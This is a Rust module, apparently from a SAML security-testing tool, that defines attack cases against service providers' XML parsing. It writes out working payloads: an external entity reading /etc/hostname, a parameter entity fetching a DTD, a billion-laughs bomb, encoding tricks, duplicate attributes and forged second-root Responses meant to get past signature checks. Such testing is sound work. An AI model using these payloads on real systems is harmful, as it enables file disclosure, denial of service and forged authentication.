//! Attacks below the tree: document types, encodings, and text that only a lenient reader takes for XML.
//!
//! Each works on the finished text of the IdP's own message.

use super::tools::signed_error;
use super::{Attack, ORDINARY, is_signed_plain};
use crate::recipe::RecipeError;
use crate::step::Step;
use crate::tree::Node;
use crate::wire::spell;
use crate::workshop::Workshop;

pub(super) const DOCTYPE: Attack = Attack {
    id: "doctype",
    about: "The genuine message starts with a document type declaration that defines an entity.",
    source: "XML-01; CVE-2024-52596; CVE-2025-23369",
    steps: &[Step::Text(|xml| insert_doctype(xml, r#"<!DOCTYPE r [<!ENTITY name "mallory@example.test">]>"#))],
    ..ORDINARY
};

/// Between the XML declaration, where there is one, and the root.
fn insert_doctype(xml: &mut String, doctype: &str) {
    xml.insert_str(end_of_declaration(xml), doctype);
}

fn end_of_declaration(xml: &str) -> usize {
    if xml.starts_with("<?xml") { xml.find("?>").map_or(0, |end| end + 2) } else { 0 }
}

/// What no strict reader takes, so that no signature in it is live.
const UNREADABLE: Attack = Attack { live: false, ..ORDINARY };

/// The same, where the text has to be looked into.
const UNREADABLE_PLAIN: Attack =
    Attack { needs: "a signed message that is not encrypted", applies: is_signed_plain, ..UNREADABLE };

pub(super) const EXTERNAL_ENTITY: Attack = Attack {
    id: "external_entity",
    about: "A document type declaration names a file of the SP's host, and the NameID asks for its content.",
    source: "XML-01; CVE-2024-22024; CVE-2016-10127",
    steps: &[
        Step::Signed(entity_for_name),
        Step::Text(|xml| insert_doctype(xml, r#"<!DOCTYPE r [<!ENTITY file SYSTEM "file:///etc/hostname">]>"#)),
    ],
    ..UNREADABLE_PLAIN
};

fn entity_for_name(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let name = workshop.assertion()?.at_mut(&["Subject", "NameID"]).ok_or(RecipeError::Missing("NameID"))?;
    name.children = vec![Node::spelled("", "&file;")];
    Ok(())
}

pub(super) const PARAMETER_ENTITY: Attack = Attack {
    id: "parameter_entity",
    about: "A document type declaration fetches its entities from a URL by a parameter entity.",
    source: "XML-01; CVE-2021-27736",
    steps: &[Step::Text(|xml| {
        insert_doctype(xml, r#"<!DOCTYPE r [<!ENTITY % more SYSTEM "http://127.0.0.1:9/more.dtd"> %more;]>"#);
    })],
    ..ORDINARY
};

pub(super) const ATTRIBUTE_BY_DOCTYPE: Attack = Attack {
    id: "attribute_by_doctype",
    about: "A document type declaration gives every NameID a default attribute and calls `Id` an identifier.",
    source: "XML-01; XSW-13; CVE-2025-23369",
    steps: &[Step::Text(|xml| {
        let attributes = r#"<!ATTLIST NameID Id ID #IMPLIED SPNameQualifier CDATA "other">"#;
        insert_doctype(xml, &format!("<!DOCTYPE Response [{attributes}]>"));
    })],
    ..ORDINARY
};

pub(super) const ENTITY_BOMB: Attack = Attack {
    id: "entity_bomb",
    about: "Nine entities, each ten times the one before, stand for a billion characters; the genuine message follows.",
    source: "XML-02; CVE-2003-1564",
    steps: &[Step::Text(|xml| {
        let level = |number: usize| format!(r#"<!ENTITY e{} "{}">"#, number + 1, format!("&e{number};").repeat(10));
        let levels: String = (0..9).map(level).collect();
        insert_doctype(xml, &format!(r#"<!DOCTYPE r [<!ENTITY e0 "x">{levels}]>"#));
    })],
    ..ORDINARY
};

pub(super) const XML_1_1: Attack = Attack {
    id: "xml_1_1",
    about: "The message is declared to be XML 1.1, which has other blanks and other characters.",
    source: "XML-07; core 1.3 is XML 1.0",
    steps: &[Step::Text(|xml| declare(xml, r#"<?xml version="1.1" encoding="UTF-8"?>"#))],
    ..ORDINARY
};

pub(super) const UTF_7: Attack = Attack {
    id: "utf_7",
    about: "The message is declared to be UTF-7, in which `+ADw-` is a tag.",
    source: "XML-06",
    steps: &[Step::Text(|xml| declare(xml, r#"<?xml version="1.0" encoding="UTF-7"?>"#))],
    ..ORDINARY
};

pub(super) const LATIN_1: Attack = Attack {
    id: "latin_1",
    about: "The message is UTF-8 and declared to be ISO-8859-1: two layers read two texts.",
    source: "XML-06",
    steps: &[Step::Text(|xml| declare(xml, r#"<?xml version="1.0" encoding="ISO-8859-1"?>"#))],
    ..ORDINARY
};

fn declare(xml: &mut String, declaration: &str) {
    xml.replace_range(..end_of_declaration(xml), declaration);
}

pub(super) const ATTRIBUTE_TWICE: Attack = Attack {
    id: "attribute_twice",
    about: "The root has its ID twice, with two values.",
    source: "XML-08; XSW-16; CVE-2025-66567",
    steps: &[Step::Text(|xml| insert_in_root(xml, r#" ID="_other""#))],
    ..UNREADABLE
};

pub(super) const ATTRIBUTE_TWICE_BY_NAMESPACE: Attack = Attack {
    id: "attribute_twice_by_namespace",
    about: "The root has one attribute twice, under two prefixes of one namespace.",
    source: "XML-08; XSW-16; CVE-2025-66567",
    steps: &[Step::Text(|xml| insert_in_root(xml, r#" xmlns:one="urn:x" xmlns:two="urn:x" one:a="1" two:a="2""#))],
    ..UNREADABLE
};

pub(super) const UNDECLARED_PREFIX: Attack = Attack {
    id: "undeclared_prefix",
    about: "The root has an attribute whose prefix nobody declared.",
    source: "XML-08; CVE-2020-29510",
    steps: &[Step::Text(|xml| insert_in_root(xml, r#" nobody:a="1""#))],
    ..UNREADABLE
};

pub(super) const COLON_ATTRIBUTE: Attack = Attack {
    id: "colon_attribute",
    about: "The root has an attribute whose name is mostly colons: writing what was read gives another document.",
    source: "XML-08; XSW-16; CVE-2020-29509; CVE-2020-27846",
    steps: &[Step::Text(|xml| insert_in_root(xml, r#" ::a="1""#))],
    ..UNREADABLE
};

pub(super) const NAMESPACE_UNDONE: Attack = Attack {
    id: "namespace_undone",
    about: "The root takes a prefix back, which only XML 1.1 has.",
    source: "XML-08; XML-07; Namespaces in XML 1.0, 5",
    steps: &[Step::Text(|xml| insert_in_root(xml, r#" xmlns:gone="""#))],
    ..ORDINARY
};

/// Behind the name of the root.
fn insert_in_root(xml: &mut String, attributes: &str) {
    let start = end_of_declaration(xml);
    let blank = xml.get(start..).and_then(|root| root.find(' ')).unwrap_or_default();
    xml.insert_str(start + blank, attributes);
}

/// Two documents in one text, one of them forged.
const TWO_DOCUMENTS: Attack = Attack { forges: true, ..UNREADABLE_PLAIN };

pub(super) const FORGED_DOCUMENT_BEHIND: Attack = Attack {
    id: "forged_document_behind",
    about: "A forged Response follows the genuine one, as a second root.",
    source: "XML-05; CVE-2022-39299; CVE-2022-39353",
    steps: &[Step::Signed(|workshop| both_documents(workshop, 0))],
    ..TWO_DOCUMENTS
};

pub(super) const FORGED_DOCUMENT_BEFORE: Attack = Attack {
    id: "forged_document_before",
    about: "A forged Response comes first, the genuine one is a second root behind it.",
    source: "XML-05; CVE-2022-39299; CVE-2022-39300",
    steps: &[Step::Signed(|workshop| both_documents(workshop, 1))],
    ..TWO_DOCUMENTS
};

pub(super) const FORGED_BEHIND_ERROR: Attack = Attack {
    id: "forged_behind_error",
    about: "A forged Response follows one that the IdP signed to say that something failed, as a second root.",
    source: "XML-05; CVE-2022-39299; CVE-2022-39300",
    steps: &[Step::Signed(|workshop| {
        let forged = spell(&workshop.forged_response()?);
        signed_error(workshop)?;
        workshop.spelling = Some(spell(&workshop.response) + &forged);
        Ok(())
    })],
    ..TWO_DOCUMENTS
};

/// The tree has one root, so the other document travels as its spelling.
fn both_documents(workshop: &mut Workshop<'_>, genuine_place: usize) -> Result<(), RecipeError> {
    let mut documents = vec![spell(&workshop.forged_response()?)];
    documents.insert(genuine_place, spell(&workshop.response));
    workshop.spelling = Some(documents.concat());
    Ok(())
}
